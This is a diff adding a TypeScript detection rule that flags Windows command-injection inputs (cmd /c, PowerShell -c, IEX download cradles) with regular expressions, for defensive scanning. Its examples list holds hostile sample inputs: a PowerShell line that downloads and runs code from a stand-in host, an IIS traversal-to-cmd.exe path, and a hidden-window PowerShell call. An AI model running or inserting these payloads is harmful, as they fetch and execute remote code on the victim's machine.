@@ -1,0 +1,61 @@
+import type { Match, ValueRule } from '../rule.ts';
+import type { Subject } from '../subject.ts';
+import { usesOf } from './vocabulary.ts';
+
+/** `cmd /c dir`, `cmd.exe?/c+dir`, `powershell -c …`, `IEX(…)`, wherever they stand. */
+export const windowsShell: ValueRule = {
+  id: 'cmdi.windows-shell',
+  category: 'cmdi',
+  cwe: 'CWE-78',
+  severity: 'critical',
+  score: 88,
+  message: 'starts a Windows shell with a command',
+  trigger: {
+    literals: [['/c', '/k', '.exe?', 'powershell', 'pwsh', 'iex', 'invoke-expression', 'comspec']],
+  },
+  judge,
+  examples: [
+    'cmd.exe /c dir',
+    '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\\',
+    'cmd /c "ping -n 5 127.0.0.1"',
+    '%COMSPEC% /c whoami',
+    'powershell -c "Get-Process"',
+    'IEX (New-Object Net.WebClient).DownloadString("http://evil.example.com/a")',
+    'powershell.exe -nop -w hidden -c ls',
+  ],
+  lookalikes: [
+    'How do I open PowerShell or cmd on Windows 11?',
+    'cmd /? shows the help',
+    'The /c switch of cmd is documented',
+    'PowerShell -Version 7 is out now',
+    'https://example.com/setup.exe?v=2',
+  ],
+};
+
+/** Each has the command in its last group, or needs none. */
+const forms: readonly RegExp[] = [
+  /(?:\bcmd(?:\.exe)?|%comspec%|\$env:comspec)['"]? {1,3}(?:\/[a-z:]{1,5} {0,2}){0,3}\/[ck] {0,3}["'^(]{0,3}([a-z]{2,20})/i,
+  /\b[a-z0-9_-]{1,20}\.exe\?\/[a-z](?:\+|%20| )/i,
+  /\b(?:powershell|pwsh)(?:\.exe)?['"]?(?: {1,3}-[a-z]{1,20}(?: {1,3}[a-z]{3,12})?){0,6} {1,3}-(?:c|command|file|f|encodedcommand|enc|ec)\b {1,3}["'&({]{0,3}([a-z$[.\\/]{2,30}(?:-[a-z]{2,20})?)/i,
+  /\b(?:iex|invoke-expression) {0,3}[("'$]{1,3} {0,3}(?:new-object|iwr|irm|curl|invoke-w|\[system)/i,
+  /\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object net\.webclient)\b[^|\n]{0,200}\| {0,3}(?:iex|invoke-expression)\b/i,
+];
+
+function judge(subject: Subject): Match | undefined {
+  const text = subject.text;
+  for (const form of forms) {
+    const match = form.exec(text);
+    if (match === null) continue;
+    const name = match[1];
+    if (name !== undefined && !isCommand(name)) continue;
+    return { start: match.index, end: match.index + match[0].length };
+  }
+  return undefined;
+}
+
+function isCommand(name: string): boolean {
+  return usesOf(name.toLowerCase()) !== 0 || marks.test(name) || name.toLowerCase() === 'calc';
+}
+
+/** A cmdlet, a variable, a type, a path. */
+const marks = /[-$[.\\/]/;
